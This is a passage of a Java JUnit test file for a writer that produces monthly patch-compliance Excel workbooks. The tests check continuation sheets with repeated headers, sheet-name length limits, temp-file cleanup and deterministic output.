        try (TestWorkbook wb = TestWorkbook.open(out.toByteArray())) {
            wb.cell("Not in effect", 1, wb.column("Not in effect", 0, "Title")).hasText("a\uFFFDb\uFFFDc\uFFFDd\u0001e");
        }
        assertThat(stats.replacedCharacters()).isEqualTo(3);
    }

    @Test
    void rowsBeyondTheSheetLimitContinueOnNumberedSheetsWithTheHeaderRepeated() throws IOException {
        int findings = 10;
        ReportData data = aReport().withGenerated(Verdict.NOT_IN_EFFECT, findings, FindingBuildersSupport::notInEffect).build();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        WorkbookStats stats = new MonthlyWorkbookWriter(5).write(data, template, out);
        try (TestWorkbook wb = TestWorkbook.open(out.toByteArray())) {
            assertThat(wb.sheetNames()).containsExactly("Summary", "Reboot plan", "Not in effect", "Not in effect (2)",
                    "Not in effect (3)", "Missing", "Hosts", "Updates", "Data quality");
            List<Object> header = templateBook.rows("Not in effect").get(0);
            List<String> hosts = new ArrayList<>();
            for (String sheet : List.of("Not in effect", "Not in effect (2)", "Not in effect (3)")) {
                List<List<Object>> rows = wb.rows(sheet);
                assertThat(rows.get(0)).as("header of %s", sheet).isEqualTo(header);
                assertThat(rows.size()).as("rows of %s", sheet).isLessThanOrEqualTo(5);
                rows.subList(1, rows.size()).forEach(r -> hosts.add((String) r.get(0)));
                XSSFSheet xs = wb.workbook().getSheet(sheet);
                PaneInformation pane = xs.getPaneInformation();
                assertThat(pane).as("frozen header on %s", sheet).isNotNull();
                assertThat(pane.isFreezePane()).isTrue();
                assertThat(xs.getColumnWidth(4)).as("title column width on %s", sheet)
                        .isEqualTo(templateBook.workbook().getSheet("Not in effect").getColumnWidth(4));
                assertThat(xs.getCTWorksheet().getAutoFilter().getRef()).as("filter on %s", sheet).startsWith("A1:");
            }
            List<String> expected = new ArrayList<>();
            for (int i = 0; i < findings; i++) {
                expected.add(FindingBuildersSupport.notInEffect(i).host());
            }
            assertThat(hosts).as("every row, in order, none lost").isEqualTo(expected);
        }
        assertThat(stats.rows("Not in effect")).isEqualTo(findings);
        assertThat(stats.sheetNames()).contains("Not in effect (3)");
    }

    @Test
    void continuationSheetNamesStayWithinThirtyOneCharacters() {
        String base = "A sheet name of thirty-one chrs";
        assertThat(base).hasSize(31);
        assertThat(SheetStream.continuationName(base, 2, n -> false)).isEqualTo("A sheet name of thirty-one (2)").hasSizeLessThanOrEqualTo(31);
        assertThat(SheetStream.continuationName(base, 12, n -> false)).hasSize(31).endsWith(" (12)");
        assertThat(SheetStream.continuationName("Missing", 2, n -> n.equals("Missing (2)"))).isEqualTo("Missing (3)");
    }

    @Test
    void streamingTempFilesAreRemovedAfterWritingAndAfterAFailure(@TempDir Path poiTemp) throws IOException {
        // A private temporary folder: other processes on the machine may be using POI's shared one.
        org.apache.poi.util.TempFile.setTempFileCreationStrategy(
                new org.apache.poi.util.DefaultTempFileCreationStrategy(poiTemp.toFile()));
        try {
            streamingTempFilesAreRemoved(poiTemp.toFile());
        } finally {
            org.apache.poi.util.TempFile.setTempFileCreationStrategy(new org.apache.poi.util.DefaultTempFileCreationStrategy());
        }
    }

    private void streamingTempFilesAreRemoved(File poiTemp) throws IOException {
        Set<String> before = poiTempFiles(poiTemp);
        write(aReport().withGenerated(Verdict.NOT_IN_EFFECT, 500, FindingBuildersSupport::notInEffect).build()).close();
        assertThat(poiTempFiles(poiTemp)).isEqualTo(before);

        ReportData failing = failingAfter(aReport().build(), 300);
        assertThatThrownBy(() -> new MonthlyWorkbookWriter().write(failing, template, new ByteArrayOutputStream()))
                .hasMessageContaining("store went away");
        assertThat(poiTempFiles(poiTemp)).isEqualTo(before);
    }

    @Test
    void rowLimitMustLeaveRoomForAHeaderAndData() {
        assertThatThrownBy(() -> new MonthlyWorkbookWriter(2)).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new MonthlyWorkbookWriter(1_048_577)).isInstanceOf(IllegalArgumentException.class);
    }

    private static ReportData failingAfter(ReportData data, int rows) {
        return new ForwardingReportData(data) {
            @Override
            public void forEachFinding(Verdict verdict, Consumer<Finding> sink) {
                for (int i = 0; i < rows; i++) {
                    sink.accept(FindingBuildersSupport.notInEffect(i));
                }
                throw new IllegalStateException("store went away");
            }
        };
    }

    private static Set<String> poiTempFiles(File dir) {
        String[] names = dir.list((d, n) -> n.startsWith("poi-sxssf"));
        return names == null ? Set.of() : new HashSet<>(Arrays.asList(names));
    }

    private static void assertNoPlaceholderLeft(TestWorkbook wb) {
        for (Sheet sheet : wb.workbook()) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        assertThat(cell.getStringCellValue()).as("%s!%s", sheet.getSheetName(), cell.getAddress()).doesNotContain("${");
                    }
                }
            }
        }
    }

    /** Findings made from an index, for generated rows. */
    static final class FindingBuildersSupport {
        static Finding notInEffect(int i) {
            return aFinding().seq(i).resourceId(1000 + i).host(String.format("SRV-%05d", i))
                    .title("Update " + i + " " + "x".repeat(i % 7)).build();
        }

        static Finding inEffect(int i) {
            return io.patchproof.testsupport.FindingBuilders.anInEffectFinding().seq(100 + i).host(String.format("OK-%03d", i)).build();
        }
    }

    @Test
    void theSameDataGivesTheSameCells() throws IOException {
        ReportData data = aReport().with(aNotInEffectFinding().build(), aMissingFinding().build())
                .withHosts(aHostSummary().build()).withUpdates(anUpdateSummary().build()).build();
        try (TestWorkbook a = write(data); TestWorkbook b = write(data)) {
            for (String sheet : a.sheetNames()) {
                assertThat(a.rows(sheet)).as(sheet).isEqualTo(b.rows(sheet));
            }
        }
    }
}
